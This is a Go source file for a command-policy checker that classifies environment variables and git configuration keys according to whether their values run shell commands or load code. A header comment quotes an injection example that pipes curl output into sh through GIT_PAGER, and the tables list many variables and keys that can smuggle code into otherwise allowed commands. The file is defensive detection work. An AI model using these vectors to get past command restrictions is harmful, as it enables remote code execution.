package cmdpolicy

import (
	"strings"
)

// An environment variable or a git configuration key may hold code: a
// command to run (GIT_PAGER, core.sshCommand) or a place code is loaded
// from (LD_PRELOAD, PATH, core.hooksPath). Setting one before an allowed
// command ("export GIT_PAGER='curl x | sh'; git log", the Cursor
// CVE-2026-22708 pattern) must not slip through, so cordon judges the value
// as shell code when it is a command, and raises undecidable/loads-code when
// it is a place to load code from.

type codeEffect uint8

const (
	noCode     codeEffect = iota
	runsScript            // the value is a shell command
	loadsCode             // the value names code to load, or config that can
)

// envTables name the environment variables that hold code.
type envTables struct {
	// envCommandVars hold a command line that programs run.
	envCommandVars map[string]bool
	// envLoadVars change where programs load code or configuration from.
	envLoadVars map[string]bool
}

func newEnvTables() envTables {
	return envTables{
		envCommandVars: optionSet(`GIT_PAGER PAGER MANPAGER GIT_EDITOR EDITOR VISUAL GIT_SEQUENCE_EDITOR SUDO_EDITOR
			KUBE_EDITOR FCEDIT GIT_SSH_COMMAND GIT_SSH GIT_EXTERNAL_DIFF GIT_ASKPASS SSH_ASKPASS SUDO_ASKPASS
			GIT_PROXY_COMMAND PROMPT_COMMAND CC CXX CPP LD AR AS FC F77 RUSTC RUSTC_WRAPPER RUSTC_WORKSPACE_WRAPPER
			RUSTDOC CARGO_BUILD_RUSTC_WRAPPER MAKE SHELL CONFIG_SHELL BROWSER AWS_PAGER GH_PAGER GH_EDITOR GH_BROWSER
			SYSTEMD_PAGER SYSTEMD_EDITOR PSQL_PAGER PSQL_EDITOR BAT_PAGER DELTA_PAGER KUBECTL_EXTERNAL_DIFF`),
		envLoadVars: optionSet(`PATH BASH_ENV ENV SHELLOPTS BASHOPTS PS4 IFS GLOBIGNORE CDPATH
			NODE_OPTIONS NODE_PATH PYTHONPATH PYTHONSTARTUP PYTHONHOME PYTHONBREAKPOINT PERL5OPT PERL5LIB PERLLIB PERL5DB
			RUBYOPT RUBYLIB JAVA_TOOL_OPTIONS _JAVA_OPTIONS JDK_JAVA_OPTIONS MAVEN_OPTS GRADLE_OPTS GOFLAGS GOENV
			GIT_EXEC_PATH GIT_TEMPLATE_DIR GIT_CONFIG GIT_CONFIG_GLOBAL GIT_CONFIG_SYSTEM GIT_CONFIG_COUNT
			GIT_CONFIG_PARAMETERS GIT_ALLOW_PROTOCOL GIT_DIR GIT_WORK_TREE HOME XDG_CONFIG_HOME ZDOTDIR GCONV_PATH
			CARGO_HOME RUSTUP_HOME DOTNET_STARTUP_HOOKS CORECLR_PROFILER CORECLR_PROFILER_PATH LESSOPEN LESSCLOSE
			PS0 PS1 PS2 PS3 RUSTFLAGS RUSTDOCFLAGS CARGO_ENCODED_RUSTFLAGS CARGO_BUILD_RUSTC CARGO_BUILD_RUSTDOC
			CARGO_BUILD_RUSTFLAGS CARGO_BUILD_RUSTC_WORKSPACE_WRAPPER GH_CONFIG_DIR BASH_CMDS BASH_LOADABLES_PATH`),
	}
}

// envLoadPrefixes are families of such variables.
var envLoadPrefixes = []string{"LD_", "DYLD_", "BASH_FUNC_", "GIT_CONFIG_KEY_", "GIT_CONFIG_VALUE_", "NPM_CONFIG_", "YARN_", "PIP_CONFIG"}

// envEffect classifies setting the environment variable name.
func envEffect(name string) codeEffect {
	tab := tables()
	switch {
	case tab.envCommandVars[name]:
		return runsScript
	case tab.envLoadVars[name]:
		return loadsCode
	}
	upper := strings.ToUpper(name)
	for _, p := range envLoadPrefixes {
		if strings.HasPrefix(upper, p) {
			return loadsCode
		}
	}
	// CARGO_TARGET_<triple>_RUNNER runs the test binaries, _LINKER links
	// them (CARGO_TARGET_DIR is only a directory).
	if strings.HasPrefix(upper, "CARGO_TARGET_") {
		for _, suffix := range []string{"_RUNNER", "_LINKER", "_RUSTFLAGS", "_AR"} {
			if strings.HasSuffix(upper, suffix) {
				return loadsCode
			}
		}
	}
	return noCode
}

// gitConfigEffect classifies a git configuration key set with -c key=value.
// Section and key names are case-insensitive; the subsection in the middle
// of "diff.<driver>.command" is not, but is ignored here.
func gitConfigEffect(key, value string) codeEffect {
	k := strings.ToLower(key)
	section, rest, _ := strings.Cut(k, ".")
	last := rest
	if i := strings.LastIndex(rest, "."); i >= 0 {
		last = rest[i+1:]
	}
	switch section {
	case "core":
		switch rest {
		case "pager", "editor", "sshcommand", "askpass", "gitproxy":
			return runsScript
		case "fsmonitor":
			if isGitBool(value) {
				return noCode
			}
			return runsScript
		case "hookspath", "worktree", "excludesfile", "attributesfile":
			return loadsCode
		}
	case "sequence":
		if rest == "editor" {
			return runsScript
		}
	case "diff", "merge", "difftool", "mergetool", "man", "browser":
		switch last {
		case "external", "command", "textconv", "driver", "cmd", "path":
			return runsScript
		}
	case "filter":
		switch last {
		case "clean", "smudge", "process":
			return runsScript
		}
	case "gpg":
		if last == "program" {
			return runsScript
		}
	case "pager", "alias", "credential", "submodule":
		// Their values run as shell commands when they start with '!' (or
		// are not booleans, for pager.*); alias values are git arguments.
		return runsScript
	case "interactive":
		if rest == "difffilter" {
			return runsScript
		}
	case "help":
		if rest == "autocorrect" {
			return loadsCode // "git psuh" may then run push
		}
	case "uploadpack":
		if rest == "packobjectshook" {
			return runsScript
		}
	case "sendemail":
		switch rest {
		case "smtpserver", "tocmd", "cccmd", "sendmailcmd":
			return runsScript
		}
	case "web":
		if rest == "browser" {
			return runsScript
		}
	case "include", "includeif", "protocol", "remote", "url":
		if section == "remote" && last != "receivepack" && last != "uploadpack" && last != "proxy" {
			return noCode
		}
		if section == "url" {
			return noCode
		}
		return loadsCode
	}
	return noCode
}

// gitConfigScript returns the shell code a command-valued git config value
// runs, or "" if it runs none.
func gitConfigScript(key, value string) string {
	k := strings.ToLower(key)
	section, _, _ := strings.Cut(k, ".")
	switch section {
	case "alias":
		if s, ok := strings.CutPrefix(value, "!"); ok {
			return s
		}
		if strings.TrimSpace(value) == "" {
			return ""
		}
		return "git " + value // an alias expands to git arguments
	case "pager":
		if isGitBool(value) {
			return ""
		}
	case "credential":
		if value == "" {
			return ""
		}
		if s, ok := strings.CutPrefix(value, "!"); ok {
			return s
		}
		if strings.HasPrefix(value, "/") {
			return value
		}
		return "git credential-" + value
	case "submodule":
		if s, ok := strings.CutPrefix(value, "!"); ok {
			return s
		}
		return ""
	}
	return value
}

func isGitBool(v string) bool {
	switch strings.ToLower(v) {
	case "true", "false", "yes", "no", "on", "off", "1", "0", "":
		return true
	}
	return false
}
